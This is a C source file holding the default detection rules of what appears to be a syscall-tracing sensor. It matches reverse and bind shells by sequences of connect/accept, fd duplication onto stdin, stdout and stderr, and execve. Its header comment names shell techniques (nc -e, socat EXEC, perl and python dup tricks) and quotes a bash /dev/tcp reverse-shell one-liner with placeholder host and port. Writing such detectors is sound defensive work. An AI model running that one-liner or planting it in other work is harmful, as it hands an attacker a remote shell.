/* rules_default.c: the built-in rules, in the pattern language (docs/rules.md explains them).
 *
 * Reverse shells start from connect, bind shells from accept; both then put the socket (or a copy
 * of it) on fds 0, 1 and 2 and execute a program. The dup family (dup, dup2, dup3, fcntl F_DUPFD)
 * is matched on the return value, the new fd, so one item covers all four calls. Three shapes
 * cover the shells seen in the field:
 *   direct  x->0, x->1, x->2            (python os.dup2, nc -e, C shell code)
 *   chain   x->y, then y->a, y->b       (bash/zsh "sh -i >& /dev/tcp/h/p 0>&1": 3->1, 1->2, 1->0)
 *   copy    x->y, then y->0, y->1, y->2 (perl open(STDIN, ">&S"): a temporary copy of the socket)
 *   relay   a fork, then one fd on both 0 and 1 in the child (socat EXEC, ncat -e with a pty or
 *           socketpair): a pipe is one-way, so one fd on stdin and stdout is a socket or a pty.
 * family?= only constrains events that carry a family (the live sensor, strace), so the seed's
 * bare lines "accept fd=3 => 4" still match.
 */
#include "rules.h"

#define DUPS "dup|dup2|dup3|fcntl"

const char rules_default_text[] =
	"rule reverse-shell\n"
	"connect fd=x family?=inet|inet6\n"
	DUPS " fd=x => 0 | " DUPS " fd=x => 1 | " DUPS " fd=x => 2\n"
	"execve|execveat\n"
	"\n"
	"rule reverse-shell-chain\n"
	"connect fd=x family?=inet|inet6\n"
	DUPS " fd=x => y:0|1|2\n"
	DUPS " fd=y => a:0|1|2 | " DUPS " fd=y => b:0|1|2\n"
	"execve|execveat\n"
	"\n"
	"rule reverse-shell-copy\n"
	"connect fd=x family?=inet|inet6\n"
	DUPS " fd=x => y\n"
	DUPS " fd=y => 0 | " DUPS " fd=y => 1 | " DUPS " fd=y => 2\n"
	"execve|execveat\n"
	"\n"
	"rule reverse-shell-relay\n"
	"connect fd=x family?=inet|inet6\n"
	"fork\n"
	DUPS " fd=y => 0 | " DUPS " fd=y => 1\n"
	"execve|execveat\n"
	"\n"
	"rule bind-shell\n"
	"accept|accept4 fd=* family?=inet|inet6 => x\n"
	DUPS " fd=x => 0 | " DUPS " fd=x => 1 | " DUPS " fd=x => 2\n"
	"execve|execveat\n"
	"\n"
	"rule bind-shell-chain\n"
	"accept|accept4 family?=inet|inet6 => x\n"
	DUPS " fd=x => y:0|1|2\n"
	DUPS " fd=y => a:0|1|2 | " DUPS " fd=y => b:0|1|2\n"
	"execve|execveat\n"
	"\n"
	"rule bind-shell-copy\n"
	"accept|accept4 family?=inet|inet6 => x\n"
	DUPS " fd=x => y\n"
	DUPS " fd=y => 0 | " DUPS " fd=y => 1 | " DUPS " fd=y => 2\n"
	"execve|execveat\n"
	"\n"
	"rule bind-shell-relay\n"
	"accept|accept4 family?=inet|inet6 => x\n"
	"fork\n"
	DUPS " fd=y => 0 | " DUPS " fd=y => 1\n"
	"execve|execveat\n";
